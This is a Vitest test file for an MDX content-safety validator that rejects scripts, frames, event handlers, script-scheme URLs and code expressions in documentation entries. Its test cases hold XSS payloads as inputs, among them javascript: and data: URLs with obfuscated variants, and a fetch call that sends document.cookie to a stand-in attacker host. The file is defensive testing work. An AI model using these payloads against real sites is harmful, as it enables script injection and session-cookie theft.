import { describe, expect, it } from "vitest";
import { unified } from "unified";
import remarkParse from "remark-parse";
import remarkMdx from "remark-mdx";
import remarkGfm from "remark-gfm";
import type { Root } from "mdast";
import { blockedScheme, checkMdxSafety } from "@/lib/content/mdx-safety";

function parse(mdx: string): Root {
  return unified().use(remarkParse).use(remarkMdx).use(remarkGfm).parse(mdx);
}

function problemsOf(mdx: string) {
  return checkMdxSafety(parse(mdx));
}

/** Body text with the construct on line 3. */
function onLine3(construct: string): string {
  return `## Fix\n\n${construct}\n`;
}

describe("checkMdxSafety", () => {
  it("passes what the catalogue uses: Markdown, <Cause>, <Callout>, literal braces, safe links", () => {
    const mdx = [
      "## Cause",
      "",
      '<Cause id="rotated" aliases="old-id" title="The secret was rotated">',
      "",
      'Write {"{"} and {`}`} as literals; {/* a comment */} is fine. Code: `{fetch("/x")}` and `<script>`.',
      "",
      "```tsx",
      'import fs from "node:fs";',
      "<iframe src=\"javascript:alert(1)\" onClick={() => eval(process.env.X)} />",
      "```",
      "",
      "</Cause>",
      "",
      '<Callout type="warning">',
      "",
      "See [the entry](/troubleshooting/x#x--y), [the spec](https://www.rfc-editor.org/rfc/rfc6749), [mail](mailto:a@example.com), [here](#fix), and ![img](/a.png).",
      "",
      "</Callout>",
      "",
      "<Callout type={\"note\"}>",
      "",
      "A literal attribute expression.",
      "",
      "</Callout>",
      "",
    ].join("\n");
    expect(problemsOf(mdx)).toEqual([]);
  });

  it.each([
    ['import fs from "node:fs"', "an import statement is not allowed"],
    ["export const secret = 1", "an export statement is not allowed"],
  ])("rejects %s", (statement, expected) => {
    expect(problemsOf(`${statement}\n\n## Fix\n\nx\n`)).toEqual([{ field: "body", line: 1, message: expect.stringContaining(expected) }]);
  });

  it.each(["script", "iframe", "object", "embed", "style", "SCRIPT"])("rejects <%s>", (name) => {
    const problems = problemsOf(onLine3(`<${name}>x</${name}>`));
    expect(problems).toEqual([{ field: "body", line: 3, message: `<${name}> is not allowed: entries cannot embed scripts, styles, frames or plugins; show markup in a fenced code block` }]);
  });

  it("rejects other elements and components, once each", () => {
    const problems = problemsOf(onLine3("<Widget />\n\n<div>x</div>\n\n<>y</>"));
    expect(problems.map((problem) => problem.message)).toEqual([
      expect.stringContaining("<Widget> is not allowed: only <Cause> and <Callout>"),
      expect.stringContaining("<div> is not allowed: only <Cause> and <Callout>"),
      expect.stringContaining("<> is not allowed: only <Cause> and <Callout>"),
    ]);
    expect(problems.map((problem) => problem.line)).toEqual([3, 5, 7]);
  });

  it.each([
    ['<Callout type="note" onClick="alert(1)">x</Callout>', "onClick on <Callout> is an inline event handler"],
    ['<Cause id="a" title="A" onload={"x"}>x</Cause>', "onload on <Cause> is an inline event handler"],
    ['<img src="/a.png" onerror="alert(1)" />', "onerror on <img> is an inline event handler"],
    ["<Callout onMouseOver={() => steal()}>x</Callout>", "onMouseOver on <Callout> is an inline event handler"],
  ])("rejects the event handler in %s", (element, expected) => {
    expect(problemsOf(onLine3(element)).map((problem) => problem.message)).toContainEqual(expect.stringContaining(expected));
  });

  it.each([
    ["[click](javascript:alert(1))", "a link uses a javascript: URL"],
    ["[click](JavaScript:alert(1))", "a link uses a javascript: URL"],
    ["![x](javascript:alert(1))", "an image uses a javascript: URL"],
    ["[click][ref]\n\n[ref]: javascript:alert(1)", "a link uses a javascript: URL"],
    ['<a href="javascript:alert(1)">x</a>', "href on <a> uses a javascript: URL"],
    ['<a href="java&#x09;script:alert(1)">x</a>', "href on <a> uses a javascript: URL"],
    ["<img src={'javascript:alert(1)'} />", "src on <img> uses a javascript: URL"],
    ["[x](vbscript:msgbox(1))", "a link uses a vbscript: URL"],
    ["[x](data:text/html,<script>alert(1)</script>)", "a link uses a data: URL"],
  ])("rejects the script URL in %s", (construct, expected) => {
    expect(problemsOf(onLine3(construct)).map((problem) => problem.message)).toContainEqual(expect.stringContaining(expected));
  });

  it.each([
    ["{process.env.SECRET}", "{process.env.SECRET} reads process (the server's environment)"],
    ['{process["env"]}', "reads process (the server's environment)"],
    ['{fetch("https://attacker.example/?" + document.cookie)}', "calls fetch()"],
    ['{eval("1")}', "calls eval()"],
    ['{require("fs")}', "calls require()"],
    ["{globalThis.location}", "reads globalThis"],
    ["{window.name}", "reads window"],
    ["{document.title}", "reads document"],
    ["{new Function('return 1')()}", "calls"],
    ['{import("fs")}', "imports a module"],
    ["{`${secret}`}", "reads secret"],
    ["{1 + 1}", "is code, not a literal"],
  ])("rejects the expression %s", (expression, expected) => {
    const problems = problemsOf(onLine3(`Text ${expression} inline.\n\n${expression}`));
    expect(problems).toHaveLength(2);
    for (const problem of problems) {
      expect(problem.field).toBe("body");
      expect(problem.message).toContain(expected);
      expect(problem.message).toContain('braces may hold only a literal such as {"{"}');
    }
    expect(problems.map((problem) => problem.line)).toEqual([3, 5]);
  });

  it("rejects code in attribute values, spreads and unknown attributes", () => {
    const problems = problemsOf(
      onLine3('<Cause id="a" title={process.env.TITLE}>\n\nx\n\n</Cause>\n\n<Callout {...props}>y</Callout>\n\n<Callout type="note" style="color:red">z</Callout>\n\n<Callout type={fetch("/x")}>w</Callout>'),
    );
    expect(problems).toEqual([
      { field: "body", line: 3, message: 'title={process.env.TITLE} on <Cause> reads process (the server\'s environment): write it as title="text"' },
      { field: "body", line: 9, message: '<Callout> spreads {...props}: write each attribute as name="text"' },
      { field: "body", line: 11, message: '<Callout> has no attribute "style": use type' },
      { field: "body", line: 13, message: 'type={fetch("/x")} on <Callout> calls fetch(): write it as type="text"' },
    ]);
  });

  it("ignores the frontmatter export mdx-bundler adds, which has no position", () => {
    const tree = parse("## Fix\n\nx\n");
    tree.children.unshift({ type: "mdxjsEsm", value: "export const frontmatter = {}" });
    expect(checkMdxSafety(tree)).toEqual([]);
  });
});

describe("blockedScheme", () => {
  it.each([
    ["https://example.com", undefined],
    ["http://localhost:3000/mock-idp", undefined],
    ["mailto:a@example.com", undefined],
    ["/troubleshooting/x", undefined],
    ["#anchor", undefined],
    ["relative/path:with-colon", undefined],
    ["javascript:alert(1)", "javascript"],
    [" \tjava\nscript:alert(1)", "javascript"],
    ["JAVASCRIPT:alert(1)", "javascript"],
    ["data:text/html,x", "data"],
  ])("%j → %s", (url, expected) => {
    expect(blockedScheme(url)).toBe(expected);
  });
});
